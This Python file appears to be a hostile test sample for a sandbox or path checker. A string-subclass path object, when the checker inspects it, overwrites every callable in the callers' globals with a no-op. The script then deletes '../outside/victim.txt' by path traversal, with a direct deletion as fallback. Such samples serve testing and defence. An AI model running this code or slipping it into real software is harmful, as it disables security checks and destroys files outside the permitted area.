# A path object looks at its callers while it is asked for its text, and tampers with them.
# damage: deleted
import os
import sys


class Sly(str):
    def spoil(self, *arguments, **options):
        frame = sys._getframe(1)
        while frame:
            if frame.f_globals is not globals():
                for name, value in list(frame.f_globals.items()):
                    if callable(value):
                        frame.f_globals[name] = lambda *arguments, **options: None
            frame = frame.f_back
        return ""

    __str__ = __repr__ = __fspath__ = encode = startswith = rstrip = split = __eq__ = __contains__ = spoil
    __hash__ = str.__hash__


try:
    os.unlink(Sly("../outside/victim.txt"))
except Exception:
    os.unlink("../outside/victim.txt")
